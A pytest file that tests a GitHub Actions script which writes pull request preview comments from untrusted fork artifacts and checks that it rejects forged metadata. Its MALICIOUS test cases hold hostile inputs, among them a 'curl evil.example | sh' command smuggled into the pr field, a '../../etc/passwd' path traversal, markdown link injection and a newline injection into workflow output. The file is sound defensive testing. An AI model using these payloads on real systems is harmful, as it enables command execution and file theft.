"""scripts/preview_comment.py: the comment on a fork's pull request, from an untrusted artifact."""
from __future__ import annotations

import json
import re
import subprocess

import pytest
from conftest import ROOT

from scripts import changed_pages, preview_comment

HEAD = "c0ffee" + "0" * 34

RUN = preview_comment.Run(HEAD, "someone/fork", "owner/site", "https://github.com/owner/site/actions/runs/42")

GOOD_META = {"pr": 12, "head_sha": HEAD, "fork": True,
             "pages": [{"src": "docs/since.md", "title": "Since the report"},
                       {"src": "docs/report/sanctions.md", "title": "U.S. and allied responses"}],
             "removed": ["docs/old.md"], "site_wide": ["data/timeline.yml"]}

PULL = {"number": 12, "state": "open", "head": {"sha": HEAD, "repo": {"full_name": "someone/fork"}}}

ARTIFACTS = {"artifacts": [{"id": 99, "name": "preview-meta", "expired": False},
                           {"id": 4567890123, "name": "preview-site", "expired": False, "expires_at": "2026-12-14T10:00:00Z"}]}


def test_a_fork_gets_a_comment_saying_where_the_artifact_is():
    meta = preview_comment.read_meta(json.dumps(GOOD_META), RUN)
    preview_comment.confirm(meta, PULL, RUN)
    text = preview_comment.comment(meta, RUN, preview_comment.artifact(ARTIFACTS, RUN))
    assert text.startswith(f"**Preview as an artifact** (built from {HEAD}).\n")
    assert ("[download the artifact **preview-site**](https://github.com/owner/site/actions/runs/42/artifacts/4567890123) "
            "from [the preview run](https://github.com/owner/site/actions/runs/42)") in text
    assert "GitHub keeps it until 2026-12-14." in text and "comes from a fork" in text
    assert ("**Changed pages:**\n\n- `docs/old.md` (removed)\n- U.S. and allied responses (`docs/report/sanctions.md`)\n"
            "- Since the report (`docs/since.md`)\n- Files that can change every page: `data/timeline.yml`\n") in text
    no_artifact = preview_comment.comment(meta, RUN, preview_comment.artifact({"artifacts": []}, RUN))
    assert "download the artifact **preview-site** from [the preview run](https://github.com/owner/site/actions/runs/42) (under Artifacts)" in no_artifact


def test_the_meta_artifact_changed_pages_writes_is_accepted():
    data = changed_pages.meta(["docs/since.md", "docs/index.md", "mkdocs.yml"], 12, HEAD, True)
    meta = preview_comment.read_meta(json.dumps(data), RUN)
    assert meta.pr == 12 and meta.pages == (("docs/index.md", "North Korea-Russia relations, explained"), ("docs/since.md", "Since the report"))


def test_titles_from_the_fork_become_plain_words():
    meta = dict(GOOD_META, pages=[{"src": "docs/a.md", "title": "Hi @owner ![x](https://evil.example/p.png) <img src=x> `code` #12 **bold** _it_ " + "long " * 40}])
    (title,) = [t for _, t in preview_comment.read_meta(json.dumps(meta), RUN).pages]
    assert not set("@!<>[]`#*_/:") & set(title), title
    assert title.startswith("Hi owner x (https evil.example p.png) img src x code 12 bold it long") and len(title) <= 80 and title.endswith("…")
    assert preview_comment.plain("What's new (2026) – U.S.?") == "What's new (2026) – U.S.?"


MALICIOUS = [   # (what the fork's code could write into meta.json, what the rejection says)
    ({"pr": "12; curl evil.example | sh"}, "'pr' must be a pull request number"),
    ({"pr": "12"}, "'pr' must be a pull request number"),
    ({"pr": True}, "'pr' must be a pull request number"),
    ({"pr": -3}, "'pr' must be a pull request number"),
    ({"pr": 12.0}, "'pr' must be a pull request number"),
    ({"pr": 10 ** 12}, "'pr' must be a pull request number"),
    ({"head_sha": "b" * 40}, "'head_sha' is not the commit this run built"),
    ({"fork": False}, "'fork' says False"),
    ({"pages": [{"src": "docs/../../etc/passwd.md", "title": "x"}]}, "'pages' must be a list of plain file paths"),
    ({"pages": [{"src": "docs/a`.md", "title": "x"}]}, "'pages' must be a list of plain file paths"),
    ({"pages": [{"src": "docs/a.md)\n\n[click](https://evil.example", "title": "x"}]}, "'pages' must be a list of plain file paths"),
    ({"pages": "- [click me](https://evil.example)"}, "'pages' must be a list of {src, title}"),
    ({"removed": ["README.md"]}, "'removed' must be a list of plain file paths"),
    ({"site_wide": ["data/x.yml` @owner"]}, "'site_wide' must be a list of plain file paths"),
    ({"pages": [{"src": "docs/a.md", "title": "x" * 70_000}]}, "more than 64000"),
]


@pytest.mark.parametrize("change, reason", MALICIOUS, ids=[r for _, r in MALICIOUS])
def test_a_malicious_meta_artifact_is_rejected(change, reason):
    with pytest.raises(preview_comment.Rejected, match=re.escape(reason)):
        preview_comment.read_meta(json.dumps(dict(GOOD_META, **change)), RUN)


def test_meta_that_is_not_an_object_or_names_another_run_s_pull_request_is_rejected():
    for text, reason in [("[1, 2]", "must hold an object"), ("{nope", "not JSON")]:
        with pytest.raises(preview_comment.Rejected, match=reason):
            preview_comment.read_meta(text, RUN)
    listed = preview_comment.Run(HEAD, "someone/fork", "owner/site", RUN.url, (5,))
    with pytest.raises(preview_comment.Rejected, match="not one GitHub lists for this run"):
        preview_comment.read_meta(json.dumps(GOOD_META), listed)


@pytest.mark.parametrize("pull, reason", [
    (dict(PULL, state="closed"), "is not open"),
    (dict(PULL, number=13), "is not open"),
    (dict(PULL, head={"sha": "d" * 40, "repo": {"full_name": "someone/fork"}}), "not the commit this run built"),
    (dict(PULL, head={"sha": HEAD, "repo": {"full_name": "other/fork"}}), "does not come from someone/fork"),
])
def test_the_pull_request_must_match_the_run(pull, reason):
    with pytest.raises(preview_comment.Rejected, match=reason):
        preview_comment.confirm(preview_comment.read_meta(json.dumps(GOOD_META), RUN), pull, RUN)


def run_script(tmp_path, *command, meta=GOOD_META, **env):
    (tmp_path / "meta.json").write_text(meta if isinstance(meta, str) else json.dumps(meta), encoding="utf-8")
    (tmp_path / "pull.json").write_text(json.dumps(PULL), encoding="utf-8")
    (tmp_path / "artifacts.json").write_text(json.dumps(ARTIFACTS), encoding="utf-8")
    env = {"HEAD_SHA": HEAD, "HEAD_REPO": "someone/fork", "REPOSITORY": "owner/site", "RUN_URL": RUN.url,
           "RUN_PRS": "[]", "PATH": "/usr/bin:/bin", **env}
    args = [str(tmp_path / name) if name.endswith(".json") else name for name in command]
    # As the workflow runs it: the runner's python3, the file alone, no project on the path.
    return subprocess.run(["python3", str(ROOT / "scripts/preview_comment.py"), *args], cwd=tmp_path, env=env,
                          capture_output=True, text=True, timeout=60)


def test_the_script_as_the_workflow_runs_it(tmp_path):
    number = run_script(tmp_path, "number", "meta.json")
    assert (number.returncode, number.stdout) == (0, "number=12\n"), number.stderr
    composed = run_script(tmp_path, "compose", "meta.json", "pull.json", "artifacts.json")
    assert composed.returncode == 0, composed.stderr
    assert composed.stdout == preview_comment.comment(preview_comment.read_meta(json.dumps(GOOD_META), RUN), RUN,
                                                      ("https://github.com/owner/site/actions/runs/42/artifacts/4567890123", "2026-12-14"))


def test_the_script_writes_nothing_for_a_malicious_artifact(tmp_path):
    evil = json.dumps(dict(GOOD_META, pr="12\nnumber=1"))
    for command in (["number", "meta.json"], ["compose", "meta.json", "pull.json", "artifacts.json"]):
        result = run_script(tmp_path, *command, meta=evil)
        assert (result.returncode, result.stdout) == (1, ""), result
        assert result.stderr.startswith("::error title=Preview comment not written::meta.json: 'pr' must be a pull request number, not '12\\nnumber=1'"), result.stderr
    same_repo = run_script(tmp_path, "compose", "meta.json", "pull.json", "artifacts.json", meta=dict(GOOD_META, fork=False),
                           HEAD_REPO="owner/site")
    assert same_repo.returncode == 1 and "not a fork's pull request" in same_repo.stderr
    forged_event = run_script(tmp_path, "number", "meta.json", HEAD_SHA="not-a-sha")
    assert forged_event.returncode == 1 and "must come from the workflow_run event" in forged_event.stderr
